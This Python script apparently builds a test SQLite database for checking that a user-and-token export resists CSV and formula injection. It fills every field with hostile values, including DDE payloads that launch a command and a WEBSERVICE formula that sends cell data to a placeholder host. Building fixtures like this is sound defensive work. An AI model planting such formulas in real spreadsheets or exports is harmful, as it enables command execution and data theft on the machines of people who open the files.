#!/usr/bin/env python3
"""hostile.py FILE: an export whose every text could be a formula, breaks a table, or is no text at all."""
import sqlite3
import sys

TEXTS = [b"=1+1", b"+1+1", b"-2+3", b"@SUM(A1)", b"=cmd|' /C calc'!A0", b"=HYPERLINK(\"http://x.example\",\"x\")",
         b"+cmd|' /C calc'!A0", b"-cmd|' /C calc'!A0", b"=WEBSERVICE(\"http://x.example/\"&A1)", b"\t=1+1", b"\r=1+1", b"\n=1+1",
         b"\r\n=1+1", b"  =1+1", b" \t +1", b"\0=1+1", b"=1\0+1", "\uff1d1+1".encode(), "\uff0b1+1".encode(), "\uff0d1+1".encode(),
         "\uff20SUM(A1)".encode(), "\u00a0=1+1".encode(), "\u3000=1+1".encode(), "\u2003-1+1".encode(), "\u200b=1+1".encode(),
         "\ufeff=1+1".encode(), b"'=1+1", b"''", b"\"=1+1\"", b"\"\r\n=1+1", b"x\",=1+1", b"x,=1+1", b"x;=1+1\r\n=2+2", b"\xff=1+1",
         b"=1+1\xff", b"\xed\xa0\x80", b"{=1+1}", b"%0A=1+1", b"|calc", b"=", b"-", b""]

db = sqlite3.connect(sys.argv[1])
db.executescript("""
CREATE TABLE service_users(id INTEGER PRIMARY KEY, user_id TEXT, name TEXT, email TEXT, role TEXT, active INTEGER, created,
    created_by TEXT, purpose TEXT, owner TEXT);
CREATE TABLE teams(id INTEGER PRIMARY KEY, name TEXT);
CREATE TABLE team_members(team INTEGER, service_user INTEGER);
CREATE TABLE tokens(id INTEGER PRIMARY KEY, service_user INTEGER, name TEXT, created, expiration, last_used, active INTEGER,
    revoked, scim INTEGER, description TEXT);
""")
for i, t in enumerate(TEXTS, 1):
    text = ", CAST(? AS TEXT)"
    db.execute(f"INSERT INTO service_users VALUES(?{text * 4}, 1{text * 4})", (i, t, t, t, t, t, t, t, t))
    db.execute("INSERT INTO teams VALUES(?, CAST(? AS TEXT))", (i, t))
    db.execute("INSERT INTO team_members VALUES(?, ?)", (i, i))
    db.execute(f"INSERT INTO tokens VALUES(?, ?{text * 4}, 1{text}, 0{text})", (i, i, t, t, t, t, t, t))
db.commit()
